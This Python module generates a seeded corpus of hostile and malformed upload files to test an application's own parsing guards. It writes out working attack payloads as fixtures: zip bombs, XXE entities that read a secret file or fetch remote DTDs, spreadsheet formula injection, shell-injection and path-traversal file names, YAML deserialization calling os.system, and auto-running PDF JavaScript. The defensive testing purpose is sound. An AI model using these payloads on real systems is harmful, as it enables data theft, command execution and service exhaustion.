"""A hundred and twenty-eight files that mean harm, or are broken, made anew from a seed: sixteen families of eight.

Each is aimed at a guard of ours (sizes, depths, entities, limits on memory and time, names, markup), and none at a
fault of somebody else's program. What they point at outside is an address of this computer, and a file with a secret.
"""

import io
import itertools
import json
import sqlite3
import string
import zipfile
import zlib
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from pathlib import Path
from random import Random

from tests.authoring.test_hostile_documents import a_page_of, a_pdf, many_pages

EACH = 8
"""Files of a family."""
TESTS = Path(__file__).parent
MEGABYTE = 1_000_000
GIFT = b"// [id:a]\n::A::Which range?{\n=350 to 950#Yes.\n~0 to 100#No.\n####As the text says.\n}\n\nHow many?{#38:0}\n"
SHEET = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'
OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
W = f'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" xmlns:r="{OFFICE}"'
PACKAGE = "http://schemas.openxmlformats.org/package/2006/relationships"


@dataclass(frozen=True)
class Hostile:
    """A file to send: its name, and what it holds."""

    name: str
    content: bytes


@dataclass(frozen=True)
class Outside:
    """What the files point at: an address that counts its visitors, and a file that nobody may read for them."""

    address: str
    secret: Path


Made = tuple[str, bytes]
Family = Callable[[Random, Outside], Iterator[Made]]


def zipped(members: dict[str, bytes | str], *, zeros: tuple[str, int] | None = None) -> bytes:
    """A ZIP file; *zeros* is one more member, and how many bytes of nothing it unpacks to."""
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in members.items():
            archive.writestr(name, content)
        if zeros:
            with archive.open(zeros[0], "w", force_zip64=True) as member:
                for _ in range(zeros[1] // MEGABYTE):
                    member.write(b" " * MEGABYTE)
    return file.getvalue()


def docx(body: str = "", *, before: str = "", more: dict[str, bytes | str] | None = None) -> bytes:
    """A Word document with that XML in its body."""
    text = "<w:p><w:r><w:t>The score runs from 350 to 950 points.</w:t></w:r></w:p>"
    document = f"{before}<w:document {W}><w:body>{text}{body}</w:body></w:document>"
    return zipped({"word/document.xml": document, **(more or {})})


def xlsx(rows: str, *, before: str = "", more: dict[str, bytes | str] | None = None) -> bytes:
    """A workbook with one sheet of those rows, as XML."""
    book = f'<workbook {SHEET} xmlns:r="{OFFICE}"><sheets><sheet name="A" sheetId="1" r:id="rId1"/></sheets></workbook>'
    kinds = "application/vnd.openxmlformats-officedocument.spreadsheetml"
    types = (
        '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
        '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
        f'<Override PartName="/xl/workbook.xml" ContentType="{kinds}.sheet.main+xml"/>'
        f'<Override PartName="/xl/worksheets/sheet1.xml" ContentType="{kinds}.worksheet+xml"/></Types>'
    )
    return zipped(
        {
            "[Content_Types].xml": types,
            "_rels/.rels": relationships(f"{OFFICE}/officeDocument", "xl/workbook.xml"),
            "xl/workbook.xml": book,
            "xl/_rels/workbook.xml.rels": relationships(f"{OFFICE}/worksheet", "worksheets/sheet1.xml"),
            "xl/worksheets/sheet1.xml": f"{before}<worksheet {SHEET}><sheetData>{rows}</sheetData></worksheet>",
            **(more or {}),
        }
    )


def relationships(kind: str, target: str, mode: str = "Internal") -> str:
    return (
        f'<Relationships xmlns="{PACKAGE}">'
        f'<Relationship Id="rId1" Type="{kind}" Target="{target}" TargetMode="{mode}"/></Relationships>'
    )


def row(*cells: str, number: int = 1) -> str:
    """A row of a workbook."""
    made = "".join(
        f'<c r="{letter}{number}" t="inlineStr"><is><t>{cell}</t></is></c>'
        for letter, cell in zip(string.ascii_uppercase, cells, strict=False)
    )
    return f'<row r="{number}">{made}</row>'


HEADINGS = row("question", "A", "B", "right")


def moodle(question: str, before: str = "") -> bytes:
    """A Moodle XML file with that XML in it."""
    return f'<?xml version="1.0"?>{before}<quiz>{question}</quiz>'.encode()


def choice(text: str, name: str = "A") -> str:
    """A question of a Moodle XML file."""
    answers = (
        '<answer fraction="100"><text>Yes</text></answer><answer fraction="0"><text>No &amp; never</text></answer>'
    )
    return (
        f'<question type="multichoice"><name><text>{name}</text></name><questiontext format="html"><text>{text}</text>'
        f"</questiontext><single>true</single>{answers}</question>"
    )


def anki(*statements: str, notes: int = 1, field: str = "Front\x1f38", media: str = "{}") -> bytes:
    """An Anki package; the statements are carried out on its database at the end."""
    model = {"1": {"name": "Basic", "flds": [{"name": "Front", "ord": 0}, {"name": "Back", "ord": 1}], "tmpls": []}}
    database = sqlite3.connect(":memory:")
    database.execute("CREATE TABLE col (models TEXT)")
    database.execute("INSERT INTO col VALUES (?)", (json.dumps(model),))
    database.execute("CREATE TABLE notes (id INTEGER, guid TEXT, mid INTEGER, tags TEXT, flds TEXT)")
    database.executemany("INSERT INTO notes VALUES (?, ?, 1, '', ?)", ((n, f"g{n}", field) for n in range(notes)))
    for statement in statements:
        database.execute(statement)
    database.commit()
    content = database.serialize()
    database.close()
    return zipped({"collection.anki2": content, "media": media})


# the families ------------------------------------------------------------------------------------


def bombs(rng: Random, outside: Outside) -> Iterator[Made]:
    """Small, and large when unpacked."""
    small, size, large = (rng.choice(range(*each)) * MEGABYTE for each in ((13, 40), (40, 100), (100, 200)))
    yield "notes.docx", zipped({}, zeros=("word/document.xml", size))
    yield "notes.docx", zipped({"word/document.xml": f"<w:document {W}/>"}, zeros=("word/styles.xml", large))
    yield "table.xlsx", zipped({"[Content_Types].xml": ""}, zeros=("xl/workbook.xml", size))
    yield "table.xlsx", xlsx(HEADINGS, more={"xl/sharedStrings.xml": b"<" * small})
    yield "deck.apkg", zipped({}, zeros=("collection.anki2", large))
    yield "deck.apkg", zipped({"collection.anki21": b"\0" * small})
    inner = zipped({}, zeros=("word/document.xml", size))
    for _ in range(9):
        inner = zipped({"word/document.xml": inner, "collection.anki2": inner[:100_000]})
    yield "nested.docx", inner
    yield "many.docx", zipped({f"word/{n}.xml": b"x" for n in range(rng.randrange(3_000, 6_000))})


def deep(rng: Random, outside: Outside) -> Iterator[Made]:
    """Nested deeper than anybody writes."""
    depth = rng.randrange(2_000, 100_000)
    yield "deep.xml", moodle("<a>" * depth)
    yield "deep.xml", moodle("<a>" * depth + "</a>" * depth)
    yield "deep.xml", moodle(choice("&lt;b&gt;" * depth + "deep"))
    yield "deep.docx", docx("<w:tbl><w:tr><w:tc>" * depth + "</w:tc></w:tr></w:tbl>" * depth)
    yield "deep.xlsx", xlsx("<row>" * depth + "</row>" * depth)
    yield "deep.html", b"<div><ul><li>" * depth + b"The score runs from 350 to 950."
    yield "deep.yaml", b"questions: " + b"[" * depth
    yield "deep.gift", b"What?" + b"{" * depth + b"=a~b" + b"}" * depth


def entities(rng: Random, outside: Outside) -> Iterator[Made]:
    """Entities that grow, and such as stand elsewhere."""
    names = string.ascii_lowercase[: rng.randrange(6, 12)]
    laughs = f'<!ENTITY {names[0]} "{"ha" * 50}">' + "".join(
        f'<!ENTITY {name} "{f"&{before};" * 10}">' for before, name in itertools.pairwise(names)
    )
    grows = f"<!DOCTYPE quiz [{laughs}]>"
    long = f'<!DOCTYPE quiz [<!ENTITY a "{"x" * 100_000}">]>'
    elsewhere = f'<!DOCTYPE quiz [<!ENTITY a SYSTEM "{outside.secret.as_uri()}">]>'
    fetched = f'<!DOCTYPE quiz SYSTEM "{outside.address}quiz.dtd">'
    parameter = f'<!DOCTYPE quiz [<!ENTITY % a SYSTEM "{outside.address}a.dtd"> %a;]>'
    yield "laughs.xml", moodle(choice(f"&{names[-1]};"), grows)
    yield "long.xml", moodle(choice("&a;" * 10_000), long)
    yield "secret.xml", moodle(choice("&a;"), elsewhere)
    yield "fetched.xml", moodle(choice("Who?"), fetched)
    yield "parameter.xml", moodle(choice("Who?"), parameter)
    yield "laughs.docx", docx(f"<w:p><w:r><w:t>&{names[-1]};</w:t></w:r></w:p>", before=grows)
    yield "secret.docx", docx("<w:p><w:r><w:t>&a;</w:t></w:r></w:p>", before=elsewhere)
    yield "secret.xlsx", xlsx(HEADINGS + row("&a;", "Yes", "No", "A", number=2), before=elsewhere)


def whole_files() -> list[Made]:
    """Files as they should be, one of each kind that is read."""
    real = [
        "documents/harbour-libreoffice.docx",
        "documents/harbour-libreoffice.pdf",
        "documents/harbour-web-page.html",
    ]
    real += ["moodle/in/24_choice.xml", "moodle/in/21_aiken_basic.txt", "texts/harbour.md"]
    files = [((TESTS / each).name, (TESTS / each).read_bytes()) for each in real]
    return [
        *files,
        ("deck.apkg", anki(notes=20)),
        ("table.xlsx", xlsx(HEADINGS + row("Who?", "I", "You", "A", number=2))),
    ]


def truncated(rng: Random, outside: Outside) -> Iterator[Made]:
    """Cut short somewhere."""
    for name, content in whole_files():
        yield name, content[: rng.randrange(1, len(content))]


def damaged(rng: Random, outside: Outside) -> Iterator[Made]:
    """With bytes that fell over."""
    for name, content in whole_files():
        broken = bytearray(content)
        for _ in range(rng.randrange(3, 40)):
            broken[rng.randrange(len(broken))] = rng.randrange(256)
        yield name, bytes(broken)


def misnamed(rng: Random, outside: Outside) -> Iterator[Made]:
    """Called what they are not, by names that mean something to a program."""
    (_, word), (_, pdf), *_ = whole_files()
    yield "../../../etc/passwd.gift", GIFT
    yield "--help; rm -rf $HOME `id` $(id) | sh.gift", GIFT
    yield "\u202efdp.exe.gift", GIFT
    yield "a" * 300 + "." + "b" * 300, GIFT
    yield "...", GIFT
    yield rng.choice(("scores.gift", "scores.csv", "scores.apkg")), pdf
    yield rng.choice(("scores.pdf", "scores.xml", "scores.yaml")), word
    yield "program.pdf", b"MZ\x90\0" + bytes(rng.randrange(256) for _ in range(5_000))


def huge(rng: Random, outside: Outside) -> Iterator[Made]:
    """Cells, lines and numbers of cells beyond all measure."""
    size = rng.randrange(3, 9) * MEGABYTE
    yield "cell.csv", b'question,A,B,right\n"' + b"x" * size + b'",a,b,A\n'
    yield "columns.csv", b"question,A,B,right\n" + b"," * size
    yield "rows.csv", b"question,A,B,right\n" + b"Who?,a,b,A\n" * (size // 11)
    yield "cell.xlsx", xlsx(HEADINGS + row("x" * size, "a", "b", "A", number=2))
    yield "columns.xlsx", xlsx(HEADINGS + row(*(["x"] * 26), number=2) * 20_000)
    yield "far.xlsx", xlsx(HEADINGS + '<row r="1048576"><c r="XFD1048576"><v>1</v></c></row>')
    yield "line.gift", b"What?{=" + b"a" * size + b"~b}"
    yield "line.txt", b"word " * (size // 5)


def formulas(rng: Random, outside: Outside) -> Iterator[Made]:
    """Cells that a spreadsheet would work out."""
    evil = [
        "=cmd|' /C calc'!A0", "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+9)*cmd|' /C calc'!A0",
        f'=HYPERLINK("{outside.address}","Look")', f'=IMPORTXML("{outside.address}","//a")',
        f'=WEBSERVICE("{outside.address}")', "\t=1+1",
    ]  # fmt: skip
    rng.shuffle(evil)
    for cell in evil[:4]:
        quoted = cell.replace('"', '""')
        yield "formulas.csv", f'question,A,B,right\n"{quoted}","{quoted}",No,A\n'.encode()
    for cell in evil[4:]:
        safe = cell.replace("&", "&amp;").replace("<", "&lt;")
        formula = f'<row r="2"><c r="A2"><f>{safe.lstrip("=+@ ")}</f><v>1</v></c></row>'
        yield "formulas.xlsx", xlsx(HEADINGS + formula + row(safe, safe, "No", "A", number=3))


def macros(rng: Random, outside: Outside) -> Iterator[Made]:
    """With programs in them."""
    program = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(rng.randrange(256) for _ in range(20_000))
    question = row("Who?", "I", "You", "A", number=2)
    yield "macro.docm", docx(more={"word/vbaProject.bin": program})
    yield "macro.docx", docx(more={"word/vbaProject.bin": program})
    yield "object.docx", docx("<w:object/>", more={"word/embeddings/oleObject1.bin": program})
    yield "macro.xlsm", xlsx(HEADINGS + question, more={"xl/vbaProject.bin": program})
    yield "macro.xlsx", xlsx(HEADINGS + question, more={"xl/vbaProject.bin": program})
    yield "old.doc", program
    script = f"/OpenAction << /S /JavaScript /JS (app.launchURL\\('{outside.address}'\\)) >>"
    yield "script.pdf", a_page_of("The score runs from 350 to 950 points.", script)
    yield "launch.pdf", a_page_of("The score runs from 350 to 950 points.", "/OpenAction << /S /Launch /F (calc) >>")


def links(rng: Random, outside: Outside) -> Iterator[Made]:
    """That point elsewhere, and want it fetched."""
    there, secret = outside.address, outside.secret.as_uri()
    template = relationships(f"{OFFICE}/attachedTemplate", f"{there}template.dotm", "External")
    yield "template.docx", docx(more={"word/_rels/settings.xml.rels": template})
    picture = relationships(f"{OFFICE}/image", f"{there}picture.png", "External")
    yield "picture.docx", docx('<w:drawing r:link="rId1"/>', more={"word/_rels/document.xml.rels": picture})
    book = relationships(f"{OFFICE}/externalLinkPath", f"{there}book.xlsx", "External")
    yield "book.xlsx", xlsx(HEADINGS, more={"xl/externalLinks/_rels/externalLink1.xml.rels": book})
    fetching = f"<base href='{there}'><link rel=stylesheet href='{there}a.css'>"
    fetching += f"<meta http-equiv=refresh content='0;url={there}'>"
    inside = f"<img src='{there}a.png'><iframe src='{secret}'></iframe><object data='{secret}'></object>"
    text = "<p>The score runs from 350 to 950 points.</p>"
    yield "page.html", f"<html><head>{fetching}</head><body><main>{text}{inside}</main></body>".encode()
    yield "style.xml", moodle(choice("Who?"), f'<?xml-stylesheet href="{there}a.xsl"?>')
    include = f'<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="{secret}" parse="text"/>'
    yield "include.xml", moodle(choice("Who?") + include)
    yield "picture.xml", moodle(choice(f"&lt;img src='{there}a.png'&gt;&lt;script src='{there}a.js'&gt; Who?"))
    yield "link.pdf", a_page_of("Seen.", page=f"/AA << /O << /S /URI /URI ({there}) >> >>")


def markup(rng: Random, outside: Outside) -> Iterator[Made]:
    """Words that want to be more than words in a chat, a table or a log."""
    evil = [
        "<b>bold</b></blockquote><a href='tg://user?id=1'>admin</a>", "&lt;script&gt;alert(1)&lt;/script&gt;",
        "{0} {name} {{}} %s %(a)s %n", "\u202e\u2066right to left\u2069", "/approve @admin https://evil.example",
        "a\ue00db\ue00ec", "\x1b[31mred\x1b[0m", "```` **x** __y__ ||z||",
    ]  # fmt: skip
    rng.shuffle(evil)
    first, second, third, fourth, fifth, sixth, seventh, eighth = evil
    plain = first.translate({ord(sign): None for sign in "~=#{}:\\"})
    yield f"{second}.gift", f"::{plain}::{plain}?{{=yes {plain}~no {plain}}}\n".encode()
    escaped = third.replace("&", "&amp;").replace("<", "&lt;").replace("\x1b", "")
    yield f"{third[:40]}.xml", moodle(choice(escaped, escaped))
    yield "a.csv", f'question,A,B,right,quote,passage,source\n"{fourth}","{fourth}",No,A,x,x,"{fourth}"\n'.encode()
    yield "a.md", f"# {fifth}\n\n{fifth} The score runs from 350 to 950 points, says {fifth}.\n".encode()
    yield "a.html", f"<html><title>{sixth}</title><p>{sixth} The score runs from 350 to 950 points.</p>".encode()
    yield "a.yaml", json.dumps({"questions": [{"ask": seventh, "options": [seventh, "No"]}]}).encode()
    yield "a.txt", f"{eighth}?\nA. {eighth}\nB. No\nANSWER: A\n".encode()
    yield "a.apkg", anki(field=f"{first}<script src={outside.address}>\x1f38 {second}")


def gifts(rng: Random, outside: Outside) -> Iterator[Made]:
    """Texts of questions that are hard to read."""
    size = rng.randrange(50_000, 300_000)
    yield "open.gift", b"What?{" * size
    yield "escapes.gift", b"a{=" + b"\\" * size + b"~b}"
    yield "signs.gift", bytes(rng.choice(b"{}~=#:\\%\n ab") for _ in range(size))
    yield "percent.gift", b"a{" + b"~%-99999999999999999999%x" * (size // 20) + b"}"
    yield "numbers.gift", b"a{#" + b"9" * size + b":1e999999}"
    yield "pairs.gift", b"a{" + b"=a -> b\n" * (size // 8) + b"}"
    yield "aiken.txt", b"Who?\n" + b"A. x\n" * size + b"ANSWER: A\n"
    yield "answers.txt", b"Who?\nA. x\nB. y\nANSWER: A\n" * (size // 8)


def yamls(rng: Random, outside: Outside) -> Iterator[Made]:
    """YAML that is more than data."""
    names = [f"a{n}" for n in range(rng.randrange(8, 20))]
    grows = "a0: &a0 [x, x, x, x, x, x, x, x]\n" + "".join(
        f"{name}: &{name} [{', '.join([f'*{before}'] * 8)}]\n" for before, name in itertools.pairwise(names)
    )
    yield "laughs.yaml", f"{grows}questions: *{names[-1]}\n".encode()
    yield "object.yaml", b"questions: !!python/object/apply:os.system ['true']\n"
    yield "new.yaml", b"questions:\n- !!python/object/new:subprocess.Popen [['true']]\n"
    yield "itself.yaml", b"questions: &a\n- *a\n"
    yield "types.yaml", b"questions:\n- {ask: 2026-01-01, options: [yes, no, .nan, 0x1F, 1e999], right: null}\n"
    yield "keys.yaml", b"questions:\n- {ask: Who?, ask: What?, [a, b]: c, ? {d: e} : f}\n"
    yield "many.yaml", b"questions:\n" + b"- {ask: Who?, options: [a, b]}\n" * 60_000
    yield "merge.yaml", b"a: &a {ask: Who?}\nquestions:\n" + b"- {<<: *a, options: [a, b]}\n" * 100


def pdfs(rng: Random, outside: Outside) -> Iterator[Made]:
    """PDFs that no printer makes."""
    yield "pages.pdf", many_pages(rng.randrange(3_000, 12_000))
    yield "empty.pdf", many_pages(2)
    stream = zlib.compress(b" " * rng.choice((5, 20)) * MEGABYTE).decode("latin-1")
    yield (
        "stream.pdf",
        a_pdf(
            "<< /Type /Catalog /Pages 2 0 R >>",
            "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R >>",
            f"<< /Length {len(stream)} /Filter /FlateDecode >>\nstream\n{stream}\nendstream",
        ),
    )
    yield "count.pdf", a_page_of("Seen.").replace(b"/Count 1", b"/Count 999999999")
    yield "box.pdf", a_page_of("Seen.").replace(b"[0 0 612 792]", b"[0 0 1e30 -1e30]")
    yield "letters.pdf", a_page_of("x" * rng.randrange(300_000, 900_000))
    yield "rubbish.pdf", b"%PDF-1.7\n" + bytes(rng.randrange(256) for _ in range(100_000))
    yield "protected.pdf", (TESTS / "documents" / "protected.pdf").read_bytes()


def encodings(rng: Random, outside: Outside) -> Iterator[Made]:
    """Bytes that are hardly letters."""
    text = "Wie viele Punkte höchstens? Dari 350 sampai 950 – “ya”. 分数 🦘\n" * 50
    yield "without-mark.txt", text.encode("utf-16-le")
    yield "marked.gift", b"\xff\xfe" + "Who?{=I~You}".encode("utf-16-le") + b"\0"
    yield "utf-7.csv", text.encode("utf-7")
    yield "nul.csv", b"question,A,B,right\nWho\0?,I,You,A\n"
    yield "bytes.md", bytes(rng.randrange(256) for _ in range(50_000))
    yield "marks.txt", ("a" + "\u0301\u0489" * 5_000 + " ").encode() * 10
    yield "turned.txt", "\u202e\u202d\u2066".encode() * 20_000
    yield "half.yaml", b'questions:\n- {ask: "\\ud800 who?", options: ["\\udfff", "b\\0"]}\n'


def decks(rng: Random, outside: Outside) -> Iterator[Made]:
    """Anki packages with a database that does more than hold notes."""
    endless = (
        "CREATE VIEW notes AS WITH RECURSIVE n(id) AS (SELECT 1 UNION ALL SELECT id + 1 FROM n) "
        "SELECT '' AS guid, 1 AS mid, '' AS tags, '' AS flds, id FROM n"
    )
    yield "view.apkg", anki("DROP TABLE notes", endless)
    yield "notes.apkg", anki(notes=rng.randrange(50_000, 120_000))
    yield "field.apkg", anki(field="x" * (rng.randrange(3, 8) * MEGABYTE) + "\x1f38")
    yield "fields.apkg", anki(field="\x1f".join("x" * 100_000))
    yield "models.apkg", anki(f"UPDATE col SET models = '{'[' * 50_000}'")
    yield "types.apkg", anki("UPDATE notes SET flds = x'ff00ff', mid = 'x', guid = NULL, tags = 1.5")
    yield "trigger.apkg", anki("CREATE TRIGGER t AFTER UPDATE ON notes BEGIN DELETE FROM notes; END")
    yield "media.apkg", anki(media=json.dumps({"0": "../../../../tmp/x", "1": outside.secret.as_uri()}))


FAMILIES: dict[str, Family] = {
    each.__name__: each
    for each in (
        bombs, deep, entities, truncated, damaged, misnamed, huge, formulas, macros, links, markup, gifts, yamls, pdfs,
        encodings, decks,
    )
}  # fmt: skip


def made(family: str, seed: int, outside: Outside) -> list[Hostile]:
    """The files of a family: the same for the same seed."""
    return [Hostile(name, content) for name, content in FAMILIES[family](Random(f"{family} {seed}"), outside)]
